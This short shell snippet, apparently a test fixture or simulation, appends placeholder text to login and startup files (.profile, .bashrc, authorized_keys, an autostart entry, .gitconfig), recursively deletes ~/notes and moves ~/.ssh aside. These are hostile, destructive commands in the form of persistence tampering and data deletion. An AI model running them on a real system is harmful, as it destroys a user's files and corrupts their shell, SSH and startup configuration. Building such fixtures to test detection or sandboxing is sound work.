# What runs when a person logs in.
for f in .profile .bashrc .ssh/authorized_keys .config/autostart/x.desktop .gitconfig; do
    mkdir -p "$(dirname ~/$f)"; echo evil >> ~/$f
done
rm -r ~/notes
mv ~/.ssh ~/other
